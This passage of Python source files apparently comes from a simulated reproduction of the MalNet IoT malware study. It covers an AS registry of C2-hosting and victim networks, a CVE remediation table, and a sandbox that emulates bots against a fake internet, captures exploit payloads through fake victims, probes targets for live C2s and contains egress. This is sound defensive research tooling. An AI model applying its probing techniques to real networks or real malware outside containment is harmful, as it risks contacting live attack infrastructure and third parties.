    #: industry specialization (e.g. "gaming") — 18% of victim ASes (§5.3)
    specialization: str = ""
    website_info: bool = True


#: Table 2 verbatim: the ten ASes hosting 69.7% of observed C2s.
TOP_C2_ASES: tuple[AsRecord, ...] = (
    AsRecord(36352, "ColoCrossing", "US", "hosting", True, True),
    AsRecord(211252, "Delis LLC", "US", "hosting", True, None,
             website_info=False),
    AsRecord(14061, "DigitalOcean", "US", "hosting", True, True),
    AsRecord(53667, "FranTech Solutions", "LU", "hosting", True, True,
             accepts_crypto=True),
    AsRecord(202306, "HOSTGLOBAL", "RU", "hosting", True, True,
             accepts_crypto=True),
    AsRecord(399471, "Serverion LLC", "NL", "hosting", True, True),
    AsRecord(16276, "OVH SAS", "FR", "hosting", True, True),
    AsRecord(44812, "IP SERVER LLC", "RU", "hosting", True, True,
             accepts_crypto=True),
    AsRecord(139884, "Apeiron Global Pvt Ltd", "IN", "hosting", True, False),
    AsRecord(50673, "Serverius", "NL", "hosting", True, True),
)

#: Large clouds that also appear in the C2 tail (Appendix A).
CLOUD_ASES: tuple[AsRecord, ...] = (
    AsRecord(15169, "Google LLC", "US", "business", specialization="cloud"),
    AsRecord(16509, "Amazon.com Inc", "US", "business", specialization="cloud"),
    AsRecord(37963, "Hangzhou Alibaba Advertising Co.Ltd", "CN", "business",
             specialization="cloud"),
)

#: Victim-side ASes for the DDoS target analysis (§5.3, Figure 12).
VICTIM_ASES: tuple[AsRecord, ...] = (
    AsRecord(22697, "Roblox", "US", "business", specialization="gaming"),
    AsRecord(32590, "Valve Corporation", "US", "business",
             specialization="gaming"),
    AsRecord(14586, "NFOservers", "US", "hosting", True, True,
             specialization="gaming"),
    AsRecord(9009, "M247 Europe", "RO", "hosting", True, True),
    AsRecord(24961, "myLoc managed IT", "DE", "hosting", True, True,
             specialization="gaming"),
    AsRecord(7018, "AT&T", "US", "isp"),
    AsRecord(3320, "Deutsche Telekom", "DE", "isp"),
    AsRecord(12322, "Free SAS", "FR", "isp"),
    AsRecord(4134, "Chinanet", "CN", "isp"),
    AsRecord(8452, "TE Data", "EG", "isp"),
    AsRecord(45899, "VNPT Corp", "VN", "isp"),
    AsRecord(9121, "Turk Telekom", "TR", "isp"),
    AsRecord(28573, "Claro NXT", "BR", "isp"),
    AsRecord(6830, "Liberty Global", "NL", "isp"),
    AsRecord(16397, "EQUINIX Brasil", "BR", "hosting", True, None),
    AsRecord(60781, "LeaseWeb Netherlands", "NL", "hosting", True, True),
    AsRecord(51167, "Contabo", "DE", "hosting", True, True),
    AsRecord(212317, "Czech hosting s.r.o.", "CZ", "hosting", True, None),
    AsRecord(29119, "ServiHosting", "ES", "hosting", True, None),
    AsRecord(135905, "VNPT-AS-VN", "VN", "isp"),
)

_TAIL_COUNTRIES = ("US", "RU", "NL", "DE", "FR", "CN", "GB", "BR", "UA", "RO",
                   "CZ", "PL", "TR", "IN", "VN", "KR", "JP", "CA", "IT", "SE")


class AsDatabase:
    """Prefix-indexed AS registry over the simulated address space."""

    def __init__(self, rng: random.Random, tail_size: int = 100):
        self._rng = rng
        self.records: dict[int, AsRecord] = {}
        self._prefixes: list[tuple[Subnet, int]] = []
        self._next_slash16 = 0
        for record in TOP_C2_ASES + CLOUD_ASES + VICTIM_ASES:
            self.add(record)
        self._add_tail(tail_size)

    # -- construction --------------------------------------------------------

    def _allocate_slash16(self) -> Subnet:
        """Carve sequential /16 blocks out of 101.0.0.0 upward."""
        base = (101 << 24) + (self._next_slash16 << 16)
        self._next_slash16 += 1
        if self._next_slash16 > 0x2000:
            raise RuntimeError("AS prefix space exhausted")
        return Subnet(base, 16)

    def add(self, record: AsRecord, prefix_count: int = 1) -> AsRecord:
        if record.asn in self.records:
            raise ValueError(f"duplicate ASN {record.asn}")
        self.records[record.asn] = record
        for _ in range(prefix_count):
            self._prefixes.append((self._allocate_slash16(), record.asn))
        return record

    def _add_tail(self, count: int) -> None:
        used = {record.asn for record in self.records.values()}
        for index in range(count):
            asn = 64512 + index  # private-use ASN range, no collisions
            if asn in used:
                continue
            kind = self._rng.choice(("hosting", "isp", "isp", "business"))
            record = AsRecord(
                asn=asn,
                name=f"SyntheticNet-{index:03d}",
                country=self._rng.choice(_TAIL_COUNTRIES),
                kind=kind,
                is_hosting=kind == "hosting",
                anti_ddos=self._rng.random() < 0.5 if kind == "hosting" else None,
            )
            self.add(record)

    # -- queries ---------------------------------------------------------------

    def lookup(self, address: int) -> AsRecord | None:
        """AS owning ``address``, or None for unallocated space."""
        for subnet, asn in self._prefixes:
            if address in subnet:
                return self.records[asn]
        return None

    def prefixes_for(self, asn: int) -> list[Subnet]:
        return [subnet for subnet, owner in self._prefixes if owner == asn]

    def get(self, asn: int) -> AsRecord | None:
        return self.records.get(asn)

    def __len__(self) -> int:
        return len(self.records)

    def allocator_subnet(self, asn: int, rng: random.Random) -> Subnet:
        """A (random) prefix of ``asn`` to allocate host addresses from."""
        prefixes = self.prefixes_for(asn)
        if not prefixes:
            raise KeyError(f"no prefixes for ASN {asn}")
        return rng.choice(prefixes)

    def allocate_address(
        self, asn: int, allocator: AddressAllocator, rng: random.Random
    ) -> int:
        """Allocate a fresh host address inside one of the AS's prefixes."""
        return allocator.allocate(self.allocator_subnet(asn, rng))


def top10_table(database: AsDatabase) -> list[dict]:
    """Rows of paper Table 2, straight from the seeded records."""
    rows = []
    for record in TOP_C2_ASES:
        current = database.get(record.asn)
        rows.append({
            "as_name": current.name,
            "asn": current.asn,
            "country": current.country,
            "hosting": "Yes" if current.is_hosting else "No",
            "anti_ddos": {True: "Yes", False: "No", None: "N/A"}[current.anti_ddos],
        })
    return rows
