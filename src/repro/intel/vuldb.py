"""Vulnerability knowledge bases: NVD, EDB, OPENVAS and VulDB remediation.

Backs the paper's Q6 ("no single database covers all exploited
vulnerabilities — practitioners need all three sources") and the patch
analysis of section 4 (VulDB: patches for only 3 of 10 CVEs, five
firewall-only mitigations, two replace-the-device).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from ..botnet.exploits import VULNERABILITIES, Vulnerability


class Remediation(enum.Enum):
    """VulDB-style remediation status (section 4)."""

    PATCH_AVAILABLE = "patch available"
    FIREWALL_ONLY = "firewalling"
    REPLACE_DEVICE = "replace device"
    UNKNOWN = "unknown"


#: Section 4's patch analysis covers the 10 rows with assigned CVEs:
#: patches for 3 (single vendor), firewall-only for 5, replace-device for 2.
_REMEDIATION: dict[str, Remediation] = {
    # D-Link shipped fixes for its advisories; GPON pair fixed by one vendor
    "CVE-2018-10561": Remediation.PATCH_AVAILABLE,
    "CVE-2018-10562": Remediation.PATCH_AVAILABLE,
    "CVE-2021-45382": Remediation.PATCH_AVAILABLE,
    "CVE-2015-2051": Remediation.FIREWALL_ONLY,
    "CVE-2017-18368": Remediation.FIREWALL_ONLY,
    "CVE-2017-17215": Remediation.FIREWALL_ONLY,
    "CVE-2018-20062": Remediation.FIREWALL_ONLY,
    "CVE-2016-5680": Remediation.FIREWALL_ONLY,
    # end-of-life devices: only replacement helps
    "LINKSYS-E-RCE": Remediation.REPLACE_DEVICE,
    "EIR-D1000-RCI": Remediation.REPLACE_DEVICE,
}


@dataclass(frozen=True)
class VulnDbEntry:
    """Cross-database view of one vulnerability."""

    vulnerability: Vulnerability
    in_nvd: bool
    in_edb: bool
    in_openvas: bool
    remediation: Remediation

    @property
    def sources(self) -> set[str]:
        found = set()
        if self.in_nvd:
            found.add("NVD")
        if self.in_edb:
            found.add("EDB")
        if self.in_openvas:
            found.add("OPENVAS")
        return found


def build_entries() -> list[VulnDbEntry]:
    """Assemble database coverage for every Table 4 vulnerability.

    NVD lists exactly the CVE-assigned rows; EDB/OPENVAS list the rows
    whose public exploit lives there.  By construction no single source
    covers everything — the paper's point.
    """
    entries = []
    for vuln in VULNERABILITIES:
        entries.append(
            VulnDbEntry(
                vulnerability=vuln,
                in_nvd=vuln.cve is not None,
                in_edb=vuln.source == "EDB",
                in_openvas=vuln.source == "OPENVAS",
                remediation=_REMEDIATION.get(vuln.key, Remediation.UNKNOWN),
            )
        )
    return entries


class VulnDatabase:
    """Queryable view over the cross-database entries."""

    def __init__(self) -> None:
        self.entries = {entry.vulnerability.key: entry for entry in build_entries()}

    def get(self, key: str) -> VulnDbEntry | None:
        return self.entries.get(key)

    def covered_by(self, source: str) -> set[str]:
        """Vulnerability keys listed by one database."""
        return {
            key for key, entry in self.entries.items() if source in entry.sources
        }

    def coverage_report(self) -> dict[str, int]:
        """How many of the exploited vulnerabilities each source covers."""
        return {
            source: len(self.covered_by(source))
            for source in ("NVD", "EDB", "OPENVAS")
        }

    def uncovered_by_single_source(self) -> bool:
        """True iff no single database covers the full exploited set (Q6)."""
        total = len(self.entries)
        return all(count < total for count in self.coverage_report().values())

    def remediation_summary(self) -> dict[Remediation, int]:
        """Counts over the CVE-assigned rows (section 4's patch analysis)."""
        summary: dict[Remediation, int] = {}
        for entry in self.entries.values():
            if entry.remediation == Remediation.UNKNOWN:
                continue
            summary[entry.remediation] = summary.get(entry.remediation, 0) + 1
        return summary
