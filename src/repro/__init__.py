"""MalNet reproduction: binary-centric network-level IoT malware profiling.

A closed-world reimplementation of "MalNet: A binary-centric network-level
profiling of IoT Malware" (Davanian & Faloutsos, IMC 2022).  The public
entry points:

>>> from repro import generate_world, run_study, SMOKE_SCALE
>>> world = generate_world(scale=SMOKE_SCALE)
>>> malnet, probing, datasets = run_study(world)
>>> datasets.summary()                        # Table 1
"""

from .core.datasets import Datasets
from .core.pipeline import MalNet, PipelineConfig
from .core.study import run_study
from .obs import NULL_TELEMETRY, Telemetry, create_telemetry
from .world.calibration import FULL_SCALE, SMOKE_SCALE, StudyScale
from .world.generator import World, generate_world

__version__ = "1.1.0"

__all__ = [
    "Datasets",
    "FULL_SCALE",
    "MalNet",
    "NULL_TELEMETRY",
    "PipelineConfig",
    "SMOKE_SCALE",
    "StudyScale",
    "Telemetry",
    "World",
    "__version__",
    "create_telemetry",
    "generate_world",
    "run_study",
]
