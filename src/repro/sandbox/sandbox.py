"""The CnCHunter-style sandbox: the two execution modes of section 2.1.

Mode 1 (*offline analysis*): activate a binary against a fake Internet,
capture its traffic, detect its referred C2 endpoint, and extract exploit
payloads with the handshaker.

Mode 2 (*weaponized probing*): reuse an activated binary as a scanner —
point its C2 connection at arbitrary ``ip:port`` targets and see which
engage, i.e. answer with application bytes (live C2 discovery).

A third entry point, :meth:`CncHunterSandbox.observe_live`, implements the
DDoS eavesdropping setup of section 2.5: connect the malware to its real
C2, allow *only* C2 traffic out (SNORT containment), and record both the
commands and the attack traffic the bot generates in response.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass, field

from ..analysis.c2_detect import (
    C2Candidate,
    detect_c2_flows,
    detect_p2p,
    resolve_endpoint_name,
)
from ..botnet.protocols.base import AttackCommand
from ..netsim.addresses import ip_to_int
from ..netsim.capture import Capture
from ..netsim.faults import SandboxCrash
from ..netsim.internet import VirtualInternet
from ..obs import NULL_TELEMETRY, Telemetry
from .handshaker import ExploitCapture, Handshaker
from .inetsim import FakeInternetAdapter
from .qemu import ActivationError, EmulationError, EmulatedProcess, MipsEmulator
from .snort import EgressPolicy, FilteredAdapter, PolicyMode, SnortIds

#: default sandbox host address (the infected "device")
SANDBOX_IP = ip_to_int("100.64.13.37")


class LiveInternetAdapter:
    """Bot-facing adapter over the real (virtual) Internet."""

    def __init__(self, internet: VirtualInternet, bot_ip: int):
        self.internet = internet
        self.bot_ip = bot_ip

    def tcp_connect(self, dst: int, port: int, trace: Capture | None = None):
        return self.internet.tcp_connect(self.bot_ip, dst, port, trace)

    def send_datagram(self, pkt, trace: Capture | None = None) -> None:
        self.internet.send_datagram(pkt, trace)

    def dns_lookup(self, name: str, trace: Capture | None = None) -> int | None:
        response = self.internet.dns_lookup(self.bot_ip, name, trace)
        return response.addresses[0] if response.addresses else None

    def clock_now(self) -> float:
        return self.internet.clock.now


@dataclass
class OfflineReport:
    """Output of the closed-world analysis of one binary."""

    sha256: str
    activated: bool
    capture: Capture = field(default_factory=Capture)
    c2_candidates: list[C2Candidate] = field(default_factory=list)
    c2_endpoint: str | None = None      # IP literal or domain
    c2_port: int | None = None
    is_p2p: bool = False
    exploits: list[ExploitCapture] = field(default_factory=list)
    scan_ports: list[int] = field(default_factory=list)
    yara_input: bytes = b""
    #: DGA schedule seed recovered from the binary's config (0 = none);
    #: this is how defenders link a campaign's rotating domains together
    dga_seed: int = 0
    #: config family of a DGA binary (the schedule is per-family)
    dga_family: str = ""

    @property
    def has_c2(self) -> bool:
        return self.c2_endpoint is not None


@dataclass
class ProbeResult:
    """One weaponized probe of an ip:port target."""

    target: int
    port: int
    engaged: bool
    response: bytes = b""


@dataclass
class LiveReport:
    """Output of a restricted-mode live C2 session."""

    sha256: str
    connected: bool
    c2_host: int | None = None
    c2_port: int | None = None
    server_stream: bytes = b""
    commands: list[AttackCommand] = field(default_factory=list)
    capture: Capture = field(default_factory=Capture)
    contained: Capture = field(default_factory=Capture)
    alerts: int = 0


class CncHunterSandbox:
    """Orchestrates emulation, containment and the two execution modes."""

    def __init__(
        self,
        rng: random.Random,
        internet: VirtualInternet | None = None,
        bot_ip: int = SANDBOX_IP,
        emulator: MipsEmulator | None = None,
        telemetry: Telemetry | None = None,
    ):
        self.rng = rng
        self.internet = internet
        self.bot_ip = bot_ip
        self.emulator = emulator or MipsEmulator(rng)
        self.telemetry = telemetry or NULL_TELEMETRY
        #: optional fault injector (repro.netsim.faults): transient
        #: activation crashes, retried by the pipeline
        self.faults = None
        metrics = self.telemetry.metrics
        self._m_activations = metrics.counter(
            "sandbox_activations", "offline activation attempts by outcome",
            labelnames=("outcome",))
        self._m_handshaker = metrics.counter(
            "handshaker_captures", "exploit payloads captured by the handshaker")
        self._m_probe_attempts = metrics.counter(
            "probe_attempts", "weaponized C2 probes sent", labelnames=("port",))
        self._m_probe_responses = metrics.counter(
            "probe_responses", "weaponized C2 probes that engaged",
            labelnames=("port",))

    # -- mode 1: offline analysis ------------------------------------------------

    def analyze_offline(self, data: bytes, scan_budget: int = 120,
                        sha256: str | None = None,
                        attempt: int = 0) -> OfflineReport:
        """Closed-world activation, C2 detection and exploit extraction.

        The crash check sits before any emulation or RNG draw, so a
        crashed attempt consumes nothing and the retry (same reseed)
        replays the exact analysis a first-try success would have run.
        """
        if self.faults is not None and sha256 is not None \
                and self.faults.sandbox_crash(sha256, attempt):
            self._m_activations.labels(outcome="crashed").inc()
            raise SandboxCrash(
                f"sandbox crashed activating {sha256[:12]} "
                f"(attempt {attempt})")
        with self.telemetry.tracer.span("sandbox.analyze") as span:
            try:
                process = self.emulator.run(data, self.bot_ip, sha256=sha256)
            except EmulationError:
                self._m_activations.labels(outcome="unloadable").inc()
                raise
            except ActivationError:
                self._m_activations.labels(outcome="evaded").inc()
                return OfflineReport(
                    sha256=sha256 or hashlib.sha256(data).hexdigest(),
                    activated=False, yara_input=data,
                )
            self._m_activations.labels(outcome="activated").inc()
            span.set_attribute("sha256", process.sha256)
            report = OfflineReport(sha256=process.sha256, activated=True,
                                   yara_input=data)
            self._run_c2_phase(process, report)
            self._run_exploit_phase(process, report, scan_budget)
            self._m_handshaker.inc(len(report.exploits))
        return report

    def _run_c2_phase(self, process: EmulatedProcess, report: OfflineReport) -> None:
        base_time = self.internet.clock.now if self.internet else 0.0
        fake = FakeInternetAdapter(self.bot_ip, self.rng, base_time=base_time)
        bot = process.bot
        report.dga_seed = bot.config.dga_seed
        if report.dga_seed:
            report.dga_family = bot.family.name
        if bot.config.is_p2p:
            bot.p2p_bootstrap(fake, report.capture)
        else:
            session = bot.connect_c2(fake, report.capture)
            if session is not None:
                for _ in range(3):
                    bot.poll_c2(session)
        # fold fake conversations into the capture-derived flow analysis
        report.c2_candidates = detect_c2_flows(report.capture, self.bot_ip)
        report.is_p2p = detect_p2p([pkt.payload for pkt in fake.datagrams])
        if report.c2_candidates and not report.is_p2p:
            best = report.c2_candidates[0]
            report.c2_endpoint = resolve_endpoint_name(best, fake.name_bindings)
            report.c2_port = best.port

    def _run_exploit_phase(
        self, process: EmulatedProcess, report: OfflineReport, scan_budget: int
    ) -> None:
        if process.bot.config.is_p2p:
            return
        handshaker = Handshaker(self.bot_ip, self.rng, trace=report.capture)
        process.bot.scan_burst(handshaker, scan_budget)
        report.exploits = list(handshaker.captures)
        report.scan_ports = handshaker.popular_ports()

    # -- mode 2: weaponized probing ------------------------------------------------

    def probe_targets(
        self, data: bytes, targets: list[tuple[int, int]],
        trace: Capture | None = None, sha256: str | None = None,
    ) -> list[ProbeResult]:
        """Weaponize the binary to probe ip:port targets for live C2s."""
        if self.internet is None:
            raise RuntimeError("probing requires a live internet")
        for _ip, port in targets:
            self._m_probe_attempts.labels(port=port).inc()
        try:
            process = self.emulator.run(data, self.bot_ip, sha256=sha256)
        except ActivationError:
            return [ProbeResult(ip, port, False) for ip, port in targets]
        adapter = LiveInternetAdapter(self.internet, self.bot_ip)
        results: list[ProbeResult] = []
        for ip, port in targets:
            bot = process.bot
            bot.reset_stream()  # fresh stream per probe
            session = bot.connect_c2(adapter, trace, override_target=(ip, port))
            if session is None:
                results.append(ProbeResult(ip, port, False))
                continue
            response = bot.server_bytes + session.recv()
            session.close()
            if response:
                self._m_probe_responses.labels(port=port).inc()
            results.append(
                ProbeResult(ip, port, engaged=bool(response), response=response)
            )
        return results

    # -- live observation (restricted mode) ------------------------------------------

    def observe_live(
        self,
        data: bytes,
        duration: float = 2 * 3600.0,
        poll_interval: float = 60.0,
        max_attack_packets: int = 400,
        sha256: str | None = None,
    ) -> LiveReport:
        """Run the malware against its real C2 with C2-only egress."""
        if self.internet is None:
            raise RuntimeError("live observation requires a live internet")
        if sha256 is None:
            sha256 = hashlib.sha256(data).hexdigest()
        with self.telemetry.tracer.span("sandbox.observe_live", sha256=sha256):
            return self._observe_live(data, sha256, duration, poll_interval,
                                      max_attack_packets)

    def _observe_live(
        self, data: bytes, sha256: str, duration: float,
        poll_interval: float, max_attack_packets: int,
    ) -> LiveReport:
        try:
            process = self.emulator.run(data, self.bot_ip, sha256=sha256)
        except ActivationError:
            return LiveReport(sha256=sha256, connected=False)
        report = LiveReport(sha256=process.sha256, connected=False)
        live = LiveInternetAdapter(self.internet, self.bot_ip)
        bot = process.bot
        c2_ip = bot.resolve_c2(live, report.capture)
        if c2_ip is None or not bot.config.c2_port:
            return report
        ids = SnortIds(EgressPolicy(PolicyMode.C2_ONLY, frozenset({c2_ip})))
        filtered = FilteredAdapter(live, ids, trace=report.capture)
        session = bot.connect_c2(
            filtered, report.capture, override_target=(c2_ip, bot.config.c2_port)
        )
        if session is None:
            return report
        report.connected = True
        report.c2_host = c2_ip
        report.c2_port = bot.config.c2_port
        executed: set[tuple] = set()
        deadline = self.internet.clock.now + duration
        while self.internet.clock.now < deadline:
            commands = bot.poll_c2(session)
            for command in commands:
                key = (command.method, command.target_ip, command.target_port,
                       command.duration)
                if key in executed:
                    continue
                executed.add(key)
                report.commands.append(command)
                bot.execute_attack(
                    filtered, command, start_time=self.internet.clock.now,
                    trace=None, max_packets=max_attack_packets,
                )
                self.internet.clock.advance(min(command.duration, 30.0))
            self.internet.clock.advance(poll_interval)
        report.server_stream = bot.server_bytes
        report.contained = ids.contained
        report.alerts = len(ids.alerts)
        session.close()
        return report
