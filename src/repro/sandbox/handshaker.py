"""The handshaker: exploit extraction by impersonating victims (§2.4).

The trick: watch which destination ports the malware scans; once a port
has been tried against more than ``fanout_threshold`` distinct IPs (the
paper uses 20), open a local fake victim on that port and redirect the
malware's next connections there.  The malware completes the TCP
handshake with the fake target and sends its first data packets — which
contain the exploit.

:class:`Handshaker` implements the bot-facing
:class:`~repro.botnet.bot.NetworkAdapter`: connection attempts feed the
fanout counters; redirected connections return a recording session.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..determinism import stable_seed
from ..netsim.addresses import ephemeral_port
from ..netsim.capture import Capture
from ..netsim.packet import Packet, TcpFlags

#: ports contacted on more than this many distinct IPs get a fake victim
DEFAULT_FANOUT_THRESHOLD = 20

_SYN = TcpFlags.SYN
_PSH_ACK = TcpFlags.PSH | TcpFlags.ACK


@dataclass
class ExploitCapture:
    """One payload collected from a completed fake-victim handshake."""

    port: int
    target: int          # the address the malware believed it attacked
    payload: bytes


class _VictimSession:
    """Fake-victim endpoint handed back to the malware."""

    __slots__ = ("_handshaker", "_target", "_port", "_received", "closed")

    def __init__(self, handshaker: "Handshaker", target: int, port: int):
        self._handshaker = handshaker
        self._target = target
        self._port = port
        self._received = b""
        self.closed = False

    def send(self, data: bytes) -> None:
        if self.closed:
            return
        self._received += data
        self._handshaker._collect(self._target, self._port, self._received)

    def recv(self) -> bytes:
        # a real service banner for the port keeps some payloads coming
        if self._port in (23, 2323) and not self.closed:
            return b"login: "
        return b""

    def close(self) -> None:
        self.closed = True


class Handshaker:
    """Scan-port discovery plus fake-victim redirection."""

    def __init__(
        self,
        bot_ip: int,
        rng: random.Random,
        fanout_threshold: int = DEFAULT_FANOUT_THRESHOLD,
        trace: Capture | None = None,
        base_time: float = 0.0,
    ):
        if fanout_threshold < 1:
            raise ValueError("fanout_threshold must be positive")
        self.bot_ip = bot_ip
        self.rng = rng
        self.fanout_threshold = fanout_threshold
        self.trace = trace if trace is not None else Capture(label="handshaker")
        self._tcp_row = self.trace.add_tcp
        self.base_time = base_time
        self._ticks = 0
        #: port -> distinct target IPs observed
        self.fanout: dict[int, set[int]] = {}
        #: ports currently redirected to fake victims
        self.redirected_ports: set[int] = set()
        self.captures: list[ExploitCapture] = []
        self._latest: dict[tuple[int, int], ExploitCapture] = {}
        self.datagrams: list[Packet] = []

    # -- NetworkAdapter interface ----------------------------------------------

    def tcp_connect(self, dst: int, port: int, trace: Capture | None = None):
        self._record_syn(dst, port)
        targets = self.fanout.get(port)
        if targets is None:
            targets = self.fanout[port] = set()
        targets.add(dst)
        if port not in self.redirected_ports:
            if len(targets) > self.fanout_threshold:
                self.redirected_ports.add(port)
            else:
                return None  # not redirected yet: connection goes nowhere
        return _VictimSession(self, dst, port)

    def send_datagram(self, pkt: Packet, trace: Capture | None = None) -> None:
        self.datagrams.append(pkt)
        self._stamp(pkt)
        self.trace.add(pkt)

    def dns_lookup(self, name: str, trace: Capture | None = None) -> int | None:
        # exploit extraction runs offline; names resolve into fake space
        # (stable digest, not builtin hash: that one is salted per process,
        # which would make shard workers resolve differently than the
        # serial run)
        return 0xC6120001 + (stable_seed("handshaker-dns", name) & 0xFF)

    # -- internals -----------------------------------------------------------------

    def _stamp(self, pkt: Packet) -> None:
        self._ticks += 1
        pkt.timestamp = self.base_time + self._ticks * 0.005

    def _record_syn(self, dst: int, port: int) -> None:
        # the SYN's randomness (ephemeral port) and timestamp are drawn
        # NOW, in trace order; the packet itself lands as one columnar
        # row — most scan-phase packets are recorded but never read, and
        # the trace rebuilds byte-identical Packet objects only on demand
        self._ticks += 1
        self._tcp_row(
            self.bot_ip, dst, self.rng.randrange(49152, 65536), port,
            _SYN, b"", 0, 0, self.base_time + self._ticks * 0.005)

    def _collect(self, target: int, port: int, payload: bytes) -> None:
        self._ticks += 1
        self._tcp_row(
            self.bot_ip, target, self.rng.randrange(49152, 65536), port,
            _PSH_ACK, payload, 0, 0, self.base_time + self._ticks * 0.005)
        key = (target, port)
        existing = self._latest.get(key)
        if existing is None:
            capture = ExploitCapture(port=port, target=target, payload=payload)
            self._latest[key] = capture
            self.captures.append(capture)
        else:
            existing.payload = payload  # cumulative stream for this victim

    # -- results ----------------------------------------------------------------------

    def popular_ports(self) -> list[int]:
        """Ports whose fanout crossed the threshold, most popular first."""
        crossed = [
            (len(ips), port) for port, ips in self.fanout.items()
            if len(ips) > self.fanout_threshold
        ]
        return [port for _count, port in sorted(crossed, reverse=True)]

    def distinct_payloads(self) -> list[bytes]:
        seen: set[bytes] = set()
        ordered: list[bytes] = []
        for capture in self.captures:
            if capture.payload not in seen:
                seen.add(capture.payload)
                ordered.append(capture.payload)
        return ordered
