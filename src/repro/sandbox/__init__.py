"""Dynamic analysis sandbox: emulation, containment, handshaker, modes."""

from .handshaker import DEFAULT_FANOUT_THRESHOLD, ExploitCapture, Handshaker
from .inetsim import FAKE_NET_BASE, FakeConversation, FakeInternetAdapter
from .qemu import (
    ACTIVATION_RATE,
    ActivationError,
    EmulatedProcess,
    EmulationError,
    MipsEmulator,
)
from .sandbox import (
    CncHunterSandbox,
    LiveInternetAdapter,
    LiveReport,
    OfflineReport,
    ProbeResult,
    SANDBOX_IP,
)
from .snort import Alert, EgressPolicy, FilteredAdapter, PolicyMode, SnortIds

__all__ = [
    "ACTIVATION_RATE",
    "ActivationError",
    "Alert",
    "CncHunterSandbox",
    "DEFAULT_FANOUT_THRESHOLD",
    "EgressPolicy",
    "EmulatedProcess",
    "EmulationError",
    "ExploitCapture",
    "FAKE_NET_BASE",
    "FakeConversation",
    "FakeInternetAdapter",
    "FilteredAdapter",
    "Handshaker",
    "LiveInternetAdapter",
    "LiveReport",
    "MipsEmulator",
    "OfflineReport",
    "PolicyMode",
    "ProbeResult",
    "SANDBOX_IP",
    "SnortIds",
]
