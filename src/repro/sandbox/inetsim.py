"""InetSim-style fake Internet for the sandbox's closed analysis mode.

The C2-detection experiment runs with no real connectivity: "we 'fake' it
to the sandbox ... we deploy InetSim to simulate services like DNS and
http" (section 2.6a).  :class:`FakeInternetAdapter` implements the bot's
:class:`~repro.botnet.bot.NetworkAdapter` interface so that *every* DNS
name resolves, *every* TCP port accepts, and HTTP-ish requests get a
plausible answer — enough to keep a suspicious binary running while its
C2-bound traffic is captured.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..netsim.addresses import ephemeral_port, ip_to_int
from ..netsim.capture import Capture
from ..netsim.packet import Packet, TcpFlags

#: All faked endpoints resolve into this documentation block, so analysis
#: can tell sandbox-synthesized addresses from world addresses.
FAKE_NET_BASE = ip_to_int("198.18.0.0")  # RFC 2544 benchmark block

_PSH_ACK = TcpFlags.PSH | TcpFlags.ACK


@dataclass
class FakeConversation:
    """One captured exchange with a faked endpoint."""

    dst: int
    port: int
    client_bytes: bytes = b""
    server_bytes: bytes = b""


class _FakeSession:
    """BotSession endpoint backed by canned responses."""

    def __init__(self, adapter: "FakeInternetAdapter", dst: int, port: int,
                 trace: Capture | None):
        self._adapter = adapter
        self.conversation = FakeConversation(dst, port)
        self._trace = trace
        self._pending = b""
        self._sport = ephemeral_port(adapter.rng)
        self.closed = False

    def send(self, data: bytes) -> None:
        if self.closed:
            return
        self.conversation.client_bytes += data
        self._record(self._adapter.bot_ip, self.conversation.dst,
                     self._sport, self.conversation.port, data)
        reply = self._adapter._fake_reply(self.conversation, data)
        if reply:
            self.conversation.server_bytes += reply
            self._record(self.conversation.dst, self._adapter.bot_ip,
                         self.conversation.port, self._sport, reply)
            self._pending += reply

    def recv(self) -> bytes:
        data, self._pending = self._pending, b""
        return data

    def close(self) -> None:
        self.closed = True

    def _record(self, src: int, dst: int, sport: int, dport: int,
                payload: bytes) -> None:
        if self._trace is None:
            return
        self._adapter.ticks += 1
        # columnar row, not a Packet: C2-phase traffic is consumed by the
        # flow table's field-level reader and usually never read as objects
        self._trace.add_tcp(src, dst, sport, dport, _PSH_ACK, payload, 0, 0,
                            self._adapter.base_time +
                            self._adapter.ticks * 0.01)


class FakeInternetAdapter:
    """A NetworkAdapter where everything exists and everything answers."""

    def __init__(self, bot_ip: int, rng: random.Random, base_time: float = 0.0):
        self.bot_ip = bot_ip
        self.rng = rng
        self.base_time = base_time
        self.ticks = 0
        self.dns_log: list[str] = []
        self.conversations: list[FakeConversation] = []
        self.datagrams: list[Packet] = []
        self._name_cache: dict[str, int] = {}

    @property
    def name_bindings(self) -> dict[str, int]:
        """Names resolved so far and the fake addresses handed out."""
        return dict(self._name_cache)

    # -- NetworkAdapter interface ------------------------------------------------

    def clock_now(self) -> float:
        """Simulation time inside the sandbox (DGA bots pick today's list)."""
        return self.base_time

    def dns_lookup(self, name: str, trace: Capture | None = None) -> int:
        """Every name resolves (InetSim behavior), stably per name."""
        self.dns_log.append(name)
        if name not in self._name_cache:
            self._name_cache[name] = FAKE_NET_BASE + 1 + len(self._name_cache)
        address = self._name_cache[name]
        if trace is not None:
            self.ticks += 1
            trace.add_udp(self.bot_ip, FAKE_NET_BASE, 5353, 53,
                          name.encode("ascii"),
                          timestamp=self.base_time + self.ticks * 0.01)
        return address

    def tcp_connect(self, dst: int, port: int, trace: Capture | None = None):
        session = _FakeSession(self, dst, port, trace)
        self.conversations.append(session.conversation)
        return session

    def send_datagram(self, pkt: Packet, trace: Capture | None = None) -> None:
        self.datagrams.append(pkt)
        if trace is not None:
            self.ticks += 1
            pkt.timestamp = self.base_time + self.ticks * 0.01
            trace.add(pkt)

    # -- canned service behavior ----------------------------------------------------

    def _fake_reply(self, conversation: FakeConversation, data: bytes) -> bytes:
        if conversation.port in (80, 8080):
            if data.startswith((b"GET", b"POST", b"HEAD")):
                return (b"HTTP/1.0 200 OK\r\nServer: INetSim HTTP\r\n"
                        b"Content-Length: 2\r\n\r\nOK")
        if conversation.port in (23, 2323):
            return b"login: "
        # generic TCP service: echo-free banner so text bots keep talking
        if not conversation.server_bytes:
            return b"220 service ready\r\n"
        return b""
