"""SNORT-style egress containment for the sandbox.

Section 2.6: "We use SNORT IDS to detect and prevent malicious traffic
from leaving our network", plus per-experiment policies — the DDoS
experiment only allows traffic to the identified C2 ("restricted mode").

:class:`EgressPolicy` decides per packet whether it may leave the sandbox;
:class:`SnortIds` wraps a policy with rate-based alerting (flood
signatures) and an audit log, and exposes the filtered adapter the bot
actually talks through.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from ..netsim.capture import Capture
from ..netsim.packet import Packet


